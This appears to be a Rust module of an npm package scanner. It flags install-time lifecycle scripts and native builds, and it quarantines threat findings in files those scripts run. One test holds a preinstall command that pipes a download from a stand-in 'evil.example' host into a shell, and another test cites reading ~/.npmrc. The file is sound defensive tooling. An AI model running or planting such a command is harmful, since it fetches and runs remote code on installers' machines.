//! What an npm package runs at install: the lifecycle scripts in its
//! `package.json`, and `binding.gyp` (npm runs `node-gyp rebuild` for it).
//! A script's command is scanned like code that runs at install, and the files
//! it starts are remembered, so their findings are judged as install-time code.

use crate::collect::Role;
use crate::excerpt::excerpt;
use crate::report::{Context, Finding, Severity};
use crate::source;

/// The scripts npm runs when a package is installed from a registry, in order.
/// (`prepare` runs only for git and local installs.)
const INSTALL_SCRIPTS: &[&str] = &["preinstall", "install", "postinstall"];

/// Rules whose findings are only warnings in code that runs when called, and a
/// hold in a file an install script runs.
const THREATS: &[&str] = &[
    "code.obfuscated",
    "code.credential-access",
    "code.silent-subprocess",
    "code.clipboard",
    "code.hidden-code",
];

/// The install-time findings of a `package.json`, and the package files its
/// install scripts start (as archive member names).
pub fn scan_manifest(member: &str, text: &str) -> (Vec<Finding>, Vec<String>) {
    let mut findings = Vec::new();
    let mut started = Vec::new();
    let Ok(manifest) = serde_json::from_str::<serde_json::Value>(text) else {
        // The server refuses an unreadable package.json before anything is stored.
        return (findings, started);
    };
    let top = member.rsplit_once('/').map_or("", |(top, _)| top);
    let scripts = manifest.get("scripts").and_then(|s| s.as_object());
    for name in INSTALL_SCRIPTS {
        let Some(command) = scripts.and_then(|s| s.get(*name)).and_then(|c| c.as_str()) else {
            continue;
        };
        let place = format!("{member} (scripts.{name})");
        findings.push(Finding {
            rule: "install.npm-script".into(),
            severity: Severity::Warn,
            file: Some(member.to_owned()),
            line: None,
            evidence: Some(excerpt(&format!("{name}: {command}"), 0)),
            explanation: format!("npm runs this {name} script on every install of the package"),
            context: Some(Context::Install),
            fingerprint: None,
            history: None,
        });
        // The command is shell code run at install: the same heuristics as a file.
        for mut finding in source::scan(&place, command, Role::Code) {
            finding.file = Some(member.to_owned());
            finding.context = Some(Context::Install);
            finding.explanation = format!("{}, in the {name} script", finding.explanation);
            findings.push(finding);
        }
        started.extend(started_files(command).map(|path| format!("{top}/{path}")));
    }
    (findings, started)
}

/// The finding for a top-level `binding.gyp`.
pub fn native_build(member: &str) -> Finding {
    Finding {
        rule: "install.npm-native-build".into(),
        severity: Severity::Warn,
        file: Some(member.to_owned()),
        line: None,
        evidence: None,
        explanation: "npm runs node-gyp for this file at install, compiling and running the package's build steps".into(),
        context: Some(Context::Install),
        fingerprint: None,
        history: None,
    }
}

/// Raises threat findings in files an install script starts: that code runs on
/// every install, unasked.
pub fn judge_started(findings: &mut [Finding], started: &[String]) {
    for finding in findings.iter_mut() {
        let Some(file) = finding.file.as_deref() else {
            continue;
        };
        if !started.iter().any(|s| s == file) {
            continue;
        }
        finding.context = Some(Context::Install);
        if THREATS.contains(&finding.rule.as_str()) {
            finding.explanation = format!(
                "{} (rule {}), in a file an install script runs",
                finding.explanation, finding.rule
            );
            finding.rule = "install.npm-script-threat".into();
            finding.severity = finding.severity.max(Severity::Quarantine);
        }
    }
}

/// Package files a command starts: `node x.js`, `sh ./setup.sh`, `./run.sh`.
fn started_files(command: &str) -> impl Iterator<Item = String> + '_ {
    command
        .split(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '|' | '(' | ')'))
        .filter(|word| {
            [".js", ".cjs", ".mjs", ".sh"]
                .iter()
                .any(|ext| word.ends_with(ext))
                && !word.contains("..")
                && !word.starts_with('/')
        })
        .map(|word| {
            word.trim_matches(|c| c == '"' || c == '\'')
                .trim_start_matches("./")
                .to_owned()
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn install_scripts_are_findings_and_name_what_they_start() {
        let manifest = r#"{"name":"x","version":"1.0.0","scripts":{
            "test":"jest","postinstall":"node ./scripts/setup.js && sh install.sh"}}"#;
        let (findings, started) = scan_manifest("package/package.json", manifest);
        let rules: Vec<&str> = findings.iter().map(|f| f.rule.as_str()).collect();
        assert_eq!(rules, ["install.npm-script"]);
        assert!(findings[0]
            .evidence
            .as_deref()
            .unwrap()
            .starts_with("postinstall: node"));
        assert_eq!(started, ["package/scripts/setup.js", "package/install.sh"]);
    }

    #[test]
    fn a_script_that_pipes_a_download_to_a_shell_holds_the_package() {
        let manifest = r#"{"scripts":{"preinstall":"curl -fsSL https://evil.example/x.sh | sh"}}"#;
        let (findings, _) = scan_manifest("package/package.json", manifest);
        let held: Vec<&Finding> = findings.iter().filter(|f| f.holds()).collect();
        assert_eq!(held.len(), 1, "{findings:?}");
        assert_eq!(held[0].rule, "code.download-exec");
        assert_eq!(held[0].context, Some(Context::Install));
        assert!(held[0].explanation.ends_with("in the preinstall script"));
    }

    #[test]
    fn no_install_script_means_no_finding() {
        let manifest = r#"{"scripts":{"build":"tsc","prepare":"npm run build"}}"#;
        assert!(scan_manifest("package/package.json", manifest).0.is_empty());
        assert!(scan_manifest("package/package.json", "not json")
            .0
            .is_empty());
    }

    #[test]
    fn threats_in_started_files_hold() {
        let mut findings = vec![Finding {
            rule: "code.credential-access".into(),
            severity: Severity::Warn,
            file: Some("package/setup.js".into()),
            line: Some(1),
            evidence: None,
            explanation: "reads ~/.npmrc".into(),
            context: None,
            fingerprint: None,
            history: None,
        }];
        judge_started(&mut findings, &["package/other.js".into()]);
        assert_eq!(findings[0].severity, Severity::Warn);
        judge_started(&mut findings, &["package/setup.js".into()]);
        assert_eq!(findings[0].rule, "install.npm-script-threat");
        assert!(findings[0].holds());
    }
}
